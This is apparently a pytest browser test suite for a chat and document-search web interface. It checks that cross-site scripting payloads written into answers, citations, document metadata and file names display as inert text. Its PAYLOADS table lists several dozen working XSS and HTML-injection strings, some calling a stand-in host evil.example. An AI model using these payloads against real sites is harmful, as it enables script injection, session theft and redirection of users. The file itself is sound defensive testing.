"""Script-injection attempts, in everything that a stranger may write, render as text.

Each payload is the question, the model's thinking, draft, sentence and clarification, a
document's title, publisher, address, file name and text, and a table's cell, all at once. One
that ran would set ``window.hacked`` or open a dialog; one that became markup would leave an
element that no page of ours has.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from assistant.types import (
    Answer,
    Answered,
    Citation,
    Draft,
    Event,
    EvidenceFound,
    Rewritten,
    Sentence,
    Table,
    Thinking,
    Turn,
)
from corpus.types import Document, DocumentInfo
from index.types import Failure, Status
from tests.browser.conftest import Watched, serving
from tests.browser.test_chat import answered, ask
from tests.ui.scripted import ScriptedDesk

RUN = "window.hacked=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script-src": "<script src=https://evil.example/x.js></script>",
    "closing-script": f"</script><script>{RUN}</script>",
    "image": f'<img src=x onerror="{RUN}">',
    "image-unquoted": f"<img/src=x/onerror={RUN}>",
    "image-upper": f"<IMG SRC=x OnErRoR={RUN}>",
    "svg": f"<svg onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "iframe": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "body": f"<body onload={RUN}>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "input-focus": f"<input autofocus onfocus={RUN}>",
    "link": f'<a href="javascript:{RUN}">click</a>',
    "style": f"<style>@import 'https://evil.example/x.css';</style><b onmouseover={RUN}>b</b>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example/><button>send</button></form>",
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "attribute": f'" onmouseover="{RUN}" x="',
    "attribute-single": f"' autofocus onfocus='{RUN}' x='",
    "leave-mark": f"</mark></blockquote></article><img src=x onerror={RUN}>",
    "leave-textarea": f"</textarea></title></style><img src=x onerror={RUN}>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "entity": f"&lt;img src=x onerror={RUN}&gt;",
    "numeric-entity": f"&#60;img src=x onerror={RUN}&#62;",
    "markdown-link": f"[click](javascript:{RUN})",
    "markdown-image": f'![x](x" onerror="{RUN})',
    "template-literal": "${" + RUN + "}",
    "handlebars": "{{constructor.constructor('" + RUN + "')()}}",
    "handlebars-raw": "{{{value}}} {{#each value}}x{{/each}} @children",
    "citation": f'[1] <a class="citation" data-n="1" onclick="{RUN}">[1]</a>',
    "act": '<button data-act="retry" data-turn="1">Retry</button>',
    "latex": "$$\\href{javascript:" + RUN + "}{x}$$ \\url{javascript:" + RUN + "}",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
}
NAMES = list(PAYLOADS)

# What a payload would leave behind as markup. Our own pages have none of these in these places.
FOREIGN = (
    "script, iframe, object, embed, base, meta, form[action], style, img[src='x'], math, noscript,"
    " [onerror], [onload], [onfocus], [onmouseover], [ontoggle], [onbegin], [onclick],"
    " a[href^='javascript:' i], button[data-turn='1'][data-act='retry']:not([class])"
)


def info(name: str) -> DocumentInfo:
    """Return a document's description in which a stranger wrote every field."""
    bad = PAYLOADS[name]
    return DocumentInfo(
        id=f"files/{name}/{bad}",
        title=f"Title {bad}",
        path=f"{name} {bad}.md",
        publisher=f"Publisher {bad}",
        published="2026-01-02",
        url=f"javascript:{RUN}//{bad}",
        language="en",
        licence=f"Licence {bad}",
        tags=(f"tag {bad}",),
        sources=((f"label {bad}", f"javascript:{RUN}"),),
    )


def text_of(name: str) -> str:
    bad = PAYLOADS[name]
    return f"Before {bad} stands this.\n\nThe quote says {bad} here (source: label {bad}). After."


def cited(name: str) -> Citation:
    """Return the citation of the payload in its document."""
    told, text, quote = info(name), text_of(name), f"The quote says {PAYLOADS[name]} here"
    start = text.index(quote)
    return Citation(1, told.id, told.title, quote, start, start + len(quote), told.publisher,
                    told.published, told.url)  # fmt: skip


class HostileDesk(ScriptedDesk):
    """Everything it says was written by a stranger; a question's first word names the payload."""

    def stream(self, question: str, history: Sequence[Turn] = (), *_: Any) -> Iterator[Event]:
        name = question.split()[0]
        bad, citation = PAYLOADS[name], cited(name)
        yield Rewritten(f"Rewritten {bad}")
        yield EvidenceFound((citation,))
        yield Thinking(f"Thinking {bad}")
        yield Draft(f"Draft {bad}")
        answer = Answer(
            status="answered",
            question=question,
            standalone_question=f"Rewritten {bad}",
            text=f"Said {bad}. [1]",
            sentences=(Sentence(f"Said {bad}.", (1,)), Sentence(f"Also {bad}.", (), "unsupported")),
            citations=(citation,),
            table=Table((f"Head {bad}", "Licence"), ((f"Cell {bad}", bad), ("b", "c")), ((1,), ())),
            thinking=f"Thinking {bad}",
            model=f"model {bad}",
            notice=f"Notice {bad}",
            trace={"said": bad, "rows": [{"what": bad}]},
        )
        if "refuse" in question:
            refused = replace(
                answer, status="not_in_corpus", sentences=(), citations=(), table=None
            )
            answer = replace(refused, nearest=(citation,), clarification=f"Which {bad}?")
        yield Answered(answer)

    def status(self) -> Status:
        failed = tuple(
            Failure(f"bad {p}", f"bad {p}.pdf", f"reason {p}") for p in PAYLOADS.values()
        )
        return replace(super().status(), documents=len(PAYLOADS), failed=failed)

    def documents(self) -> list[DocumentInfo]:
        return [info(name) for name in NAMES]

    def document(self, document_id: str, quoted: object = None) -> Document | None:
        name = document_id.split("/")[1]
        return Document(info(name), text_of(name), (), (), "0" * 64)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ScriptedDesk, str]]:
    """The hostile desk in place of the scripted one; its examples are payloads, too."""
    desk = HostileDesk(tmp_path_factory.mktemp("hostile"))
    with serving(desk, (PAYLOADS["image"], PAYLOADS["handlebars"])) as address:
        yield desk, address


@pytest.fixture
def hostile(open_page: Callable[..., Any]) -> Any:
    """A page in which a dialog, too, is a script that ran."""
    page = open_page()
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    return page


def harmless(page: Any) -> None:
    """Check that nothing ran and nothing became markup."""
    assert page.evaluate("window.hacked") is None
    places = "#chat, #sources, #trace, #corpus-view, #models-view, #status-line, #welcome, main"
    left = page.evaluate(
        "([places, foreign]) => [...document.querySelectorAll(places)].flatMap("
        "(place) => [...place.querySelectorAll(foreign)].map((one) => one.outerHTML))",
        [places, FOREIGN],
    )
    assert left == []


def plain(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("batch", [NAMES[0::3], NAMES[1::3], NAMES[2::3]], ids=["a", "b", "c"])
def test_an_answer_made_of_payloads_is_shown_as_text(hostile: Any, batch: list[str]) -> None:
    for turn, name in enumerate(batch, start=1):
        ask(hostile, f"{name} {PAYLOADS[name]}")
        answered(hostile, turn)
        shown = hostile.locator(f"#chat .turn[data-turn='{turn}']")
        said = plain(shown.inner_text())
        assert plain(f"Said {PAYLOADS[name]}.") in said
        assert plain(f"Also {PAYLOADS[name]}.") in said
        assert plain(PAYLOADS[name]) in plain(shown.locator(".asked").inner_text())
        shown.locator("a.citation").first.click()
        quote = hostile.locator("#sources #source-1 mark")
        assert plain(quote.inner_text()) == plain(f"The quote says {PAYLOADS[name]} here")
        harmless(hostile)
    hostile.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
    hostile.mouse.move(300, 300)
    harmless(hostile)


def test_a_refusal_made_of_payloads_is_shown_as_text(hostile: Any) -> None:
    for turn, name in enumerate(NAMES[:12], start=1):
        ask(hostile, f"{name} refuse {PAYLOADS[name]}")
        answered(hostile, turn)
        assert plain(PAYLOADS[name]) in plain(
            hostile.locator(f"#chat .turn[data-turn='{turn}']").inner_text()
        )
        harmless(hostile)


def test_lists_of_documents_and_failures_show_payloads_as_text(hostile: Any) -> None:
    hostile.click("#views a[data-view='corpus']")
    hostile.wait_for_selector("#corpus-table li")
    text = plain(hostile.locator("#corpus-view").inner_text())
    assert plain(f"Title {PAYLOADS['image']}") in text
    harmless(hostile)
    hostile.click("#views a[data-view='models']")
    harmless(hostile)


@pytest.mark.parametrize("name", NAMES)
def test_a_document_s_own_page_shows_its_payload_as_text(
    name: str, served: tuple[ScriptedDesk, str], browser: Any
) -> None:
    from ui.markup import Span, document_href

    watched, citation = Watched(served[1]), cited(name)
    page = browser.new_page()
    try:
        watched.watch(page)
        page.goto(
            served[1] + document_href(citation.document_id, Span(citation.start, citation.end))[1:]
        )
        assert plain(page.locator("mark").first.inner_text()) == plain(citation.quote)
        harmless(page)
        assert watched.problems == []
    finally:
        page.close()


def test_a_file_s_name_is_shown_as_text(hostile: Any, tmp_path: Path) -> None:
    for name in ("image", "svg", "attribute", "template-literal"):
        path = tmp_path / f"{PAYLOADS[name].replace('/', '')}.{name}"
        path.write_text("nothing")
        hostile.set_input_files("#upload input[type=file]", str(path))
        hostile.wait_for_function(
            "(said) => document.querySelector('#refresh-report')?.innerText.includes(said)",
            arg=f".{name}: Files of kind",
        )
        harmless(hostile)
